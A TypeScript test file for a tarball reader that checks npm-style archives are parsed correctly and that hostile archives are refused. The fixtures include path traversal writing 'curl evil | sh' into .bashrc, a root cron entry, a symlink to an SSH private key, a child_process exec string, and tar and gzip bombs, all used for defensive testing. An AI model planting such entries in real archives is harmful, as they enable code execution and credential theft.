import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { readTarball, type TarLimits, type TarResult } from '../../../src/core/contents/tar';
import { packageEntries, paxRecords, writeTar, writeTgz, type TarEntrySpec } from './support/tar-writer';

const keepAll = (): boolean => true;
const small: TarLimits = { maxUnpackedBytes: 64 * 1024, maxEntries: 20, maxFileBytes: 16 * 1024 };

function files(result: TarResult): Array<[string, number, string]> {
  assert.ok(result.ok, result.ok ? '' : result.message);
  return result.files.map((file) => [file.path, file.size, file.data?.toString('utf8') ?? '']);
}

function refusal(result: TarResult): { problem: string; message: string; entry?: string } {
  assert.equal(result.ok, false, 'the archive should be refused');
  if (result.ok) throw new Error('unreachable');
  return { problem: result.problem, message: result.message, ...(result.entry === undefined ? {} : { entry: result.entry }) };
}

describe('contents/tar', () => {
  describe('reads what npm pack writes', () => {
    it('strips the package/ folder, keeps content, hashes and modes', async () => {
      const result = await readTarball(
        writeTgz([...packageEntries(), { name: 'package/bin/cli.js', data: '#!/usr/bin/env node\n', mode: 0o755 }, { name: 'package/lib/', type: '5' }]),
        keepAll,
      );
      assert.deepStrictEqual(files(result), [
        ['package.json', 54, '{"name":"hostile","version":"1.0.0","main":"index.js"}'],
        ['index.js', 20, 'module.exports = 1;\n'],
        ['bin/cli.js', 20, '#!/usr/bin/env node\n'],
      ]);
      assert.ok(result.ok);
      assert.equal(result.files[2]?.mode, 0o755);
      assert.equal(result.files[1]?.sha256, createHash('sha256').update('module.exports = 1;\n').digest('hex'));
    });

    it('keeps only what `keep` asks for, but hashes and heads every file', async () => {
      const result = await readTarball(writeTgz(packageEntries()), (path) => path === 'index.js');
      assert.ok(result.ok);
      assert.deepStrictEqual(
        result.files.map((file) => [file.path, file.data === undefined, file.head.length]),
        [
          ['package.json', true, 54],
          ['index.js', false, 20],
        ],
      );
    });

    it('honours pax path and GNU long-name headers (names over 100 bytes)', async () => {
      const long = `package/${'deep/'.repeat(30)}file.js`;
      const result = await readTarball(
        writeTgz([
          { name: 'package/PaxHeader', type: 'x', data: paxRecords({ path: 'package/from-pax-é.js' }) },
          { name: 'package/short-name', data: 'a' },
          { name: '././@LongLink', type: 'L', data: `${long}\0` },
          { name: 'package/cut', data: 'b' },
          { name: 'package/ignored-global', type: 'g', data: paxRecords({ comment: 'x' }) },
        ]),
        keepAll,
      );
      assert.deepStrictEqual(files(result), [
        ['from-pax-é.js', 1, 'a'],
        [long.slice('package/'.length), 1, 'b'],
      ]);
    });

    it('keeps one copy of a file repeated with identical bytes (as some publishing tools write it)', async () => {
      const result = await readTarball(writeTgz([...packageEntries(), { name: 'package/index.js', data: 'module.exports = 1;\n' }]), keepAll);
      assert.deepStrictEqual(files(result).map(([path]) => path), ['package.json', 'index.js']);
    });

    it('accepts an uncompressed tar', async () => {
      assert.deepStrictEqual(files(await readTarball(writeTar(packageEntries()), keepAll)).map(([path]) => path), ['package.json', 'index.js']);
    });
  });

  describe('refuses hostile archives with a clear reason', () => {
    const cases: Array<{ name: string; entries: TarEntrySpec[]; expected: { problem: string; message: string; entry?: string } }> = [
      {
        name: 'path traversal',
        entries: [...packageEntries(), { name: 'package/../../.bashrc', data: 'curl evil | sh' }],
        expected: { problem: 'path-traversal', message: 'the entry "package/../../.bashrc" climbs out of the package folder with ".."', entry: 'package/../../.bashrc' },
      },
      {
        name: 'an absolute path',
        entries: [...packageEntries(), { name: '/etc/cron.d/x', data: '* * * * * root sh' }],
        expected: { problem: 'absolute-path', message: 'the entry "/etc/cron.d/x" has an absolute path', entry: '/etc/cron.d/x' },
      },
      {
        name: 'a Windows drive path',
        entries: [{ name: 'C:\\Users\\x\\evil.js', data: 'x' }],
        expected: { problem: 'absolute-path', message: 'the entry "C:\\\\Users\\\\x\\\\evil.js" has an absolute path', entry: 'C:\\Users\\x\\evil.js' },
      },
      {
        name: 'a symbolic link',
        entries: [...packageEntries(), { name: 'package/id_rsa', type: '2', linkname: '/home/user/.ssh/id_rsa' }],
        expected: { problem: 'link', message: 'id_rsa is a symbolic link to "/home/user/.ssh/id_rsa"; npm pack never writes links', entry: 'id_rsa' },
      },
      {
        name: 'a hard link',
        entries: [...packageEntries(), { name: 'package/copy.js', type: '1', linkname: 'package/index.js' }],
        expected: { problem: 'link', message: 'copy.js is a hard link to "package/index.js"; npm pack never writes links', entry: 'copy.js' },
      },
      {
        name: 'a device file',
        entries: [...packageEntries(), { name: 'package/tty', type: '3' }],
        expected: { problem: 'special-file', message: 'tty is a special file (tar type "3"), not a regular file or folder', entry: 'tty' },
      },
      {
        name: 'a duplicate entry (the second would replace the reviewed first)',
        entries: [...packageEntries(), { name: 'package/index.js', data: 'require("child_process").exec("x")' }],
        expected: { problem: 'duplicate', message: 'index.js appears twice with different contents; the second copy would silently replace the first', entry: 'index.js' },
      },
      {
        name: 'a name that is not UTF-8',
        entries: [...packageEntries(), { name: Buffer.from([0x70, 0x61, 0x63, 0x6b, 0x61, 0x67, 0x65, 0x2f, 0xff, 0xfe, 0x2e, 0x6a, 0x73]), data: 'x' }],
        expected: { problem: 'non-utf8-name', message: 'an entry name is not valid UTF-8 ("package/ÿþ.js")', entry: 'package/ÿþ.js' },
      },
      {
        name: 'a huge single file (declared size over the cap)',
        entries: [...packageEntries(), { name: 'package/huge.bin', data: Buffer.alloc(20 * 1024) }],
        expected: { problem: 'file-too-large', message: 'huge.bin is 20480 bytes, more than the 16384 bytes cap', entry: 'huge.bin' },
      },
      {
        name: 'a tar bomb of many entries',
        entries: Array.from({ length: 30 }, (_, i) => ({ name: `package/f${i}.js`, data: '' })),
        expected: { problem: 'too-many-entries', message: 'it has more than 20 entries' },
      },
      {
        name: 'total unpacked size over the cap',
        entries: Array.from({ length: 6 }, (_, i) => ({ name: `package/part${i}.bin`, data: Buffer.alloc(15 * 1024) })),
        expected: { problem: 'too-large', message: 'it unpacks to more than 65536 bytes', entry: 'part4.bin' },
      },
    ];
    for (const c of cases) {
      it(c.name, async () => assert.deepStrictEqual(refusal(await readTarball(writeTgz(c.entries), keepAll, small)), c.expected));
    }

    it('a gzip bomb (a small download that inflates past the cap) stops at the cap', async () => {
      const bomb = gzipSync(Buffer.concat([writeTar(packageEntries()).subarray(0, 1024), Buffer.alloc(8 * 1024 * 1024)]));
      assert.ok(bomb.length < 16 * 1024, `bomb is ${bomb.length} bytes compressed`);
      assert.deepStrictEqual(refusal(await readTarball(bomb, keepAll, small)), { problem: 'too-large', message: 'it unpacks to more than 65536 bytes' });
    });

    it('a header that lies about its size (longer than the archive) is damaged, not trusted', async () => {
      const lying = writeTgz([...packageEntries(), { name: 'package/short.js', data: 'x', size: 4096 }]);
      assert.deepStrictEqual(refusal(await readTarball(lying, keepAll, small)), { problem: 'corrupt', message: 'the archive ends in the middle of a file' });
    });

    it('a bad checksum, a truncated gzip stream and random bytes are damaged archives', async () => {
      const tar = writeTar(packageEntries());
      tar[10] = 0x41; // changes the name without fixing the checksum
      assert.deepStrictEqual(refusal(await readTarball(gzipSync(tar), keepAll)), { problem: 'corrupt', message: 'a tar header has a bad checksum' });
      const truncated = writeTgz(packageEntries()).subarray(0, 40);
      assert.equal(refusal(await readTarball(truncated, keepAll)).problem, 'corrupt');
      assert.deepStrictEqual(refusal(await readTarball(Buffer.from('<html>not a tarball</html>'), keepAll)), {
        problem: 'not-gzip',
        message: 'it is neither a gzip file nor a tar archive',
      });
    });

    it('the same archives pass under the caps (control)', async () => {
      const fine = writeTgz(Array.from({ length: 4 }, (_, i) => ({ name: `package/part${i}.bin`, data: Buffer.alloc(15 * 1024) })));
      assert.equal((await readTarball(fine, keepAll, small)).ok, true);
    });
  });
});
